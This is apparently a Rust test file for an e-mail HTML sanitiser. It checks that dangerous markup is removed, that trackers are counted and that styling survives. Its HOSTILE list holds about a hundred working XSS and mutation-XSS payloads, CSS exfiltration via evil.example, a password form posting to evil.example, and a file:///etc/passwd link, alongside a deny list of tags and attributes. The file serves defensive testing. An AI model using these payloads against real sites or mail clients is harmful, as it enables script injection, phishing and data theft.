#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::string_slice, clippy::format_collect)]

use super::*;

fn cid(id: &str) -> Option<String> {
    (id == "logo@x").then(|| "aurelius-img://localhost/cid/1?u=logo%40x".to_owned())
}

fn clean(html: &str) -> Sanitised {
    sanitise(html, &Options { cid: &cid, images: Images::Blocked, max_bytes: WHOLE_BYTES })
}

fn shown(html: &str) -> Sanitised {
    let proxy = |url: &str| format!("aurelius-img://localhost/remote/1?u={}", url.replace(':', "%3A").replace('&', "%26"));
    sanitise(html, &Options { cid: &cid, images: Images::Shown(&proxy), max_bytes: WHOLE_BYTES })
}

/// What no output may hold, whatever went in. Looks at tags, not at text: `<` in text is escaped.
fn assert_harmless(input: &str, out: &str) {
    let low = out.to_lowercase();
    let mut rest = low.as_str();
    while let Some(open) = rest.find('<') {
        let (inner, after) = markup::split_tag(&rest[open..]).unwrap_or_else(|| panic!("not a tag in {out:?} from {input:?}"));
        let name = markup::tag_name(inner).trim_matches('/');
        for bad in [
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "textarea",
            "select",
            "button",
            "svg",
            "math",
            "meta",
            "base",
            "link",
            "frame",
            "frameset",
            "applet",
            "audio",
            "video",
            "source",
            "noscript",
            "template",
            "title",
            "body",
            "html",
            "head",
            "map",
            "area",
            "marquee",
            "xmp",
            "plaintext",
            "portal",
            "dialog",
            "slot",
            "isindex",
            "keygen",
            "bgsound",
            "layer",
            "option",
            "foreignobject",
            "mtext",
            "mglyph",
            "annotation-xml",
        ] {
            assert_ne!(name, bad, "<{bad}> in {out:?} from {input:?}");
        }
        for (attribute, value) in markup::attributes(inner) {
            assert!(!attribute.starts_with("on"), "{attribute} in {out:?} from {input:?}");
            assert!(
                !matches!(
                    attribute.as_str(),
                    "srcset"
                        | "srcdoc"
                        | "formaction"
                        | "action"
                        | "background"
                        | "ping"
                        | "id"
                        | "name"
                        | "xlink:href"
                        | "poster"
                        | "data"
                        | "is"
                        | "popover"
                        | "autofocus"
                ),
                "{attribute} in {out:?} from {input:?}"
            );
            let compact: String = value.to_lowercase().chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            match attribute.as_str() {
                "href" => assert!(["http://", "https://", "mailto:"].iter().any(|s| compact.starts_with(s)), "href {value} from {input:?}"),
                "src" => assert!(compact.starts_with("aurelius-img:") || compact.starts_with("data:image/"), "src {value} from {input:?}"),
                "style" => {
                    for bad in [
                        "url(",
                        "expression",
                        "javascript",
                        "behavior",
                        "binding",
                        "@import",
                        "fixed",
                        "sticky",
                        "position",
                        "z-index",
                        "vw",
                        "vh",
                        "\\",
                        "content:",
                        "image(",
                    ] {
                        assert!(!compact.contains(bad), "style {value} from {input:?}");
                    }
                }
                _ => {}
            }
        }
        rest = after;
    }
}

/// One list, so that a new trick is one line.
const HOSTILE: &[&str] = &[
    // Scripts and handlers.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>x</body>",
    "<div onmouseover=\"alert(1)\" ONCLICK=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=x onpointerenter=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<x onclick=alert(1)>custom</x>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div>",
    // Addresses that run.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://x/1\">x</a>",
    "<a href=\"aurelius://oauth/callback?code=1\">x</a>",
    "<a href=\"tauri://localhost/\">x</a>",
    "<a href=\"ms-msdt:/id PCWDiagnostic\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<img src=\"aurelius-img://localhost/remote/9?u=https%3A%2F%2Fevil\">",
    "<img src=\"cid:unknown@x\">",
    "<img src=\"file:///etc/passwd\">",
    "<img srcset=\"https://evil.example/a 1x\" src=x>",
    "<table background=\"javascript:alert(1)\"><tr><td background=\"https://evil.example/b\">x</table>",
    // Foreign content and mutation.
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\"></xmp>",
    "<template><script>alert(1)</script></template>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<a title=\"`\"><img src=x onerror=alert(1)>\">x</a>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td><form><input><script>alert(1)</script></form></td></table>",
    // Documents inside the document.
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"><embed src=x></object>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\"><a href=\"login\">x</a>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<link rel=dns-prefetch href=\"//secret.evil.example\">",
    "<frameset><frame src=x></frameset>",
    "<form action=\"https://evil.example\"><input name=password type=password><button formaction=\"javascript:alert(1)\">Go</button></form>",
    "<map name=m><area href=\"javascript:alert(1)\"></map><img usemap=#m src=x>",
    // CSS.
    "<div style=\"background:url(https://evil.example/a)\">x</div>",
    "<div style=\"background-image:u\\72l(https://evil.example/a)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"width:e\\78pression(alert(1))\">x</div>",
    "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#y)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9\">x</div>",
    "<div style=\"po/**/sition:fixed\">x</div>",
    "<div style=\"position:sticky;z-index:-1\">x</div>",
    "<div style=\"color:red;}</style><script>alert(1)</script>\">x</div>",
    "<style>@import url(https://evil.example/x.css);</style><p>x</p>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}p{font-family:x}</style><p>x</p>",
    "<style>input[value^=a]{background:url(https://evil.example/a)} p{background-image:url(https://evil.example/p)}</style><p>x</p>",
    "<style>p{color:red}</style><p style=\"color:var(--x,url(https://evil.example))\">x</p>",
    "<style>*{position:fixed !important;content:url(x)} a::after{content:attr(href)}</style><p>x</p>",
    "<style>p{background:image-set(\"https://evil.example/a\" 1x);list-style:url(x)}</style><p>x</p>",
    "<div style=\"background:-webkit-image-set(url(x) 1x);cursor:url(x),auto;filter:url(x);mask:url(x)\">x</div>",
    "<div style='font-family:\"</div><script>alert(1)</script>\"'>x</div>",
    // Unicode and bytes.
    "<img src=x one\u{0}rror=alert(1)>",
    "<\u{0}script>alert(1)</\u{0}script>",
    "\u{feff}<script>alert(1)</script>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"jav\u{2028}ascript:alert(1)\">x</a>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "<a href=\"https://evil.example/\u{202e}moc.knab\">x</a>",
];

#[test]
fn nothing_hostile_comes_through() {
    assert!(HOSTILE.len() >= 60);
    for input in HOSTILE {
        for out in [clean(input), shown(input)] {
            assert_harmless(input, &out.html);
            // The gate is stable: cleaning the clean changes nothing that matters.
            let again = clean(&out.html);
            assert_harmless(&out.html, &again.html);
        }
        assert_harmless(input, &for_quote(input));
    }
}

/// Payloads inside a mail that is broken around them: unclosed tags before, tables, comments, quotes.
#[test]
fn hostile_payloads_in_broken_surroundings() {
    for before in [
        "<table><tr>",
        "<p><b><i><a href='https://a.example'>",
        "<div title=\"",
        "<!-- ",
        "<ul><li><ul>",
        "<style>",
        "</div></div>",
        "<svg><desc>",
        "<math><mi>",
    ] {
        for input in HOSTILE {
            let whole = format!("{before}{input}</table>--></style>\"> rest");
            assert_harmless(&whole, &clean(&whole).html);
        }
    }
}

#[test]
fn seeded_mutations_never_come_through() {
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = |n: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        usize::try_from(seed % n as u64).unwrap()
    };
    let bits = [
        "<", ">", "\"", "'", "/", "=", "<!--", "-->", "</style>", "<style>", "<svg>", "<math>", "&#60;", "\0", " ", "\n", "<p>", "</p>",
        "`", "<table>",
    ];
    for _ in 0..3_000 {
        let mut input = HOSTILE[next(HOSTILE.len())].to_owned();
        for _ in 0..=next(4) {
            let mut at = next(input.len() + 1);
            while !input.is_char_boundary(at) {
                at -= 1;
            }
            if next(3) == 0 {
                input.truncate(at);
                input.push_str(HOSTILE[next(HOSTILE.len())]);
            } else {
                input.insert_str(at, bits[next(bits.len())]);
            }
        }
        assert_harmless(&input, &clean(&input).html);
    }
}

#[test]
fn ordinary_mail_stays_readable() {
    let out = clean(
        "<html><head><title>t</title><style>.h{color:#333;font-size:18px} td.c{padding:4px} p > b {color:red}</style></head>\
         <body bgcolor=\"#ffffff\" style=\"font-family:Arial, sans-serif\"><table width=\"600\" cellpadding=\"0\"><tr><td class=\"c\" align=\"center\">\
         <p class=\"h\" style=\"margin:0\">Hello <b>Ada</b> &amp; Bob</p><ul><li>one</li></ul><a href=\"https://example.org/a?b=1&amp;c=2\">Read</a>\
         <blockquote type=\"cite\" class=\"gmail_quote x\">old</blockquote></td></tr></table></body></html>",
    );
    for wanted in [
        "color:#333",
        "font-size:18px",
        "padding:4px",
        "margin:0",
        "font-family:Arial, sans-serif",
        "<b style=\"color:red\">Ada</b>",
        "Hello ",
        "&amp; Bob",
        "<li>one</li>",
        "href=\"https://example.org/a?b=1&amp;c=2\"",
        "data-host=\"example.org\"",
        "width=\"600\"",
        "class=\"gmail_quote\"",
        "type=\"cite\"",
    ] {
        assert!(out.html.contains(wanted), "{wanted} not in {}", out.html);
    }
    assert!(!out.html.contains("class=\"h\""), "{}", out.html);
    assert!(!out.uses_own_background && !out.had_form && !out.truncated);
    assert_eq!(out.links.len(), 1);
    assert_eq!((out.links[0].text.as_str(), out.links[0].host.as_str()), ("Read", "example.org"));
    assert_eq!(out.links[0].suspicious, None);
}

#[test]
fn the_cascade_is_css_and_not_luck() {
    let style = |css: &str, body: &str| clean(&format!("<style>{css}</style>{body}")).html;
    // Specificity before order, the attribute before both, important before the attribute.
    assert!(style("#a{color:red} p{color:blue}", "<p id=a>x</p>").contains("color:red"));
    assert!(style("p{color:red} p{color:blue}", "<p>x</p>").contains("color:blue"));
    assert!(style("#a{color:red}", "<p id=a style='color:green'>x</p>").contains("color:green"));
    assert!(style("p{color:red !important}", "<p style='color:green'>x</p>").contains("color:red"));
    assert!(style("div p{color:red}", "<div><span><p>x</p></span></div>").contains("color:red"));
    assert!(!style("div > p{color:red}", "<div><section><p>x</p></section></div>").contains("color:red"));
    assert!(style("div > p{color:red}", "<div><p>x</p></div>").contains("color:red"));
    assert!(style("p, .b{color:red}", "<i class='a b'>x</i>").contains("color:red"));
    assert!(style("@media screen{p{color:red}}", "<p>x</p>").contains("color:red"));
    assert!(!style("@media (max-width:600px){p{color:red}}", "<p>x</p>").contains("color:red"));
    assert!(!style("p:hover{color:red} p[title]{color:red}", "<p title=x>x</p>").contains("color:red"));
    assert!(style("p:hover{color:red} p{color:blue}", "<p>x</p>").contains("color:blue"));
    assert!(style("body{color:red}", "<body><p>x</p></body>").contains("color:red"));
    assert!(style("<!-- p{color:red} -->", "<p>x</p>").contains("color:red"));
    assert!(style("p{color:red", "<p>x</p>").contains("color:red"));
}

#[test]
fn images_are_blocked_counted_shown_and_inlined() {
    let mail = "<img src=\"https://shop.example/a.jpg\" width=300 height=200 alt=Shoe><img src=\"//cdn.example/b.png\" width=40 height=40>\
                <img src=\"cid:logo@x\"><img src=\"data:image/png;base64,iVBORw0KGgo=\"><img alt=none>";
    let out = clean(mail);
    assert_eq!(out.blocked_images, 2);
    assert!(out.trackers.is_empty());
    assert!(out.html.contains("alt=\"Shoe\"") && out.html.contains("width=\"300\""));
    assert!(!out.html.contains("shop.example") && !out.html.contains("cdn.example"), "{}", out.html);
    assert!(out.html.contains("src=\"aurelius-img://localhost/cid/1?u=logo%40x\""), "{}", out.html);
    assert!(out.html.contains("data:image/png"));
    let out = shown(mail);
    assert_eq!(out.blocked_images, 0);
    assert!(out.html.contains("remote/1?u=https%3A//shop.example/a.jpg"), "{}", out.html);
    assert!(out.html.contains("remote/1?u=https%3A//cdn.example/b.png"), "{}", out.html);
    // Two proxied addresses with an ampersand survive the gate too.
    assert!(shown("<img src=\"https://a.example/x?b=1&amp;c=2\">").html.contains("remote/1?u=https%3A//a.example/x?b=1%26c=2"));
}

#[test]
fn trackers_are_never_loaded_and_exactly_counted() {
    let mail = "<img src=\"https://t.example/p.gif\" width=1 height=1>\
                <img src=\"https://t.example/q.gif\" style=\"width:1px;height:1px\">\
                <img src=\"https://t.example/r.gif\" style=\"display:none\" width=600>\
                <div style=\"display:none\"><img src=\"https://t.example/s.gif\" width=600></div>\
                <img src=\"https://u123.ct.sendgrid.net/wf/open?upn=x\" width=600 height=90>\
                <img src=\"https://mailtrack.io/trace/x.png\">\
                <img src=\"https://shop.example/real.jpg\" width=600 height=90>\
                <a href=\"https://u123.ct.sendgrid.net/ls/click?upn=1\">Go</a><a href=\"https://u123.ct.sendgrid.net/ls/click?upn=2\">Go</a>";
    for out in [clean(mail), shown(mail)] {
        let count = |k| out.trackers.iter().filter(|t| t.kind == k).count();
        assert_eq!((count(TrackerKind::Pixel), count(TrackerKind::Known), count(TrackerKind::Redirect)), (4, 2, 1), "{:?}", out.trackers);
        assert!(!out.html.contains("t.example/") && !out.html.contains("mailtrack"), "{}", out.html);
    }
    assert_eq!(clean(mail).blocked_images, 1);
}

#[test]
fn forms_are_counted_and_backgrounds_noticed() {
    assert!(clean("<form action=x>Name <input name=n></form>").had_form);
    assert!(!clean("<p>form</p>").had_form);
    for dark in [
        "<body bgcolor=#102030>x</body>",
        "<table style='background-color:#eee'><tr><td>x</table>",
        "<style>td{background:navy}</style><table><tr><td>x</table>",
    ] {
        assert!(clean(dark).uses_own_background, "{dark}");
    }
    for plain in ["<body bgcolor=white>x</body>", "<p style='background-color:transparent'>x</p>", "<p>x</p>"] {
        assert!(!clean(plain).uses_own_background, "{plain}");
    }
}

#[test]
fn quotations_load_nothing() {
    let out =
        for_quote("<p>x</p><img src=\"https://t.example/a.png\" width=300><img src=\"cid:logo@x\"><a href=\"https://a.example\">y</a>");
    assert!(!out.contains("<img") && out.contains("https://a.example"), "{out}");
}

#[test]
fn large_and_entangled_input_ends_in_time() {
    let started = std::time::Instant::now();
    let lap = |what: &str| println!("{what}: {:?}", started.elapsed());
    let deep = "<div>".repeat(60_000);
    let out = clean(&deep);
    assert!(out.truncated);
    lap("deep");
    let entangled: String = (0..40_000).map(|i| format!("<b id={i}><p>x")).collect();
    assert!(clean(&entangled).truncated);
    lap("entangled");
    let wide = "<p style='color:red'>x</p>".repeat(20_000);
    let out = sanitise(&wide, &Options { cid: &cid, images: Images::Blocked, max_bytes: FIRST_BYTES });
    assert!(out.html.len() > 400_000);
    assert!(!clean(&wide).truncated);
    lap("wide");
    let rules: String = (0..3_000).map(|i| format!(".c{} p span{{color:red;margin:{i}px}}", i % 7)).collect();
    let body: String = (0..2_000).map(|i| format!("<div class=c{}><p><span>x</span></p></div>", i % 7)).collect();
    assert_harmless("rules", &clean(&format!("<style>{rules}</style>{body}")).html);
    lap("rules");
    let quotes = "<a title=\"".repeat(50_000);
    assert_harmless("quotes", &clean(&quotes).html);
    lap("quotes");
    let opens = "<".repeat(300_000);
    assert_harmless("opens", &clean(&opens).html);
    lap("opens");
    let comments = "<!--".repeat(100_000);
    assert_harmless("comments", &clean(&comments).html);
    // Debug builds on a busy machine; quadratic behaviour takes minutes.
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}
